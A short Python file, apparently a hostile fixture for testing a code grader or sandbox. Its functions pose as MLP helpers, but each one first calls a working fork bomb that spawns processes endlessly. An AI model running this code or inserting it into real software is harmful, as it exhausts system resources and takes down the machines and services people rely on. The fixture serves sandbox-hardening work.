# hostile: forks until it cannot
# verdict: failed error
# layers: each
import os


def attack():
    while True:
        if os.fork() == 0:
            while True:
                os.fork()


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
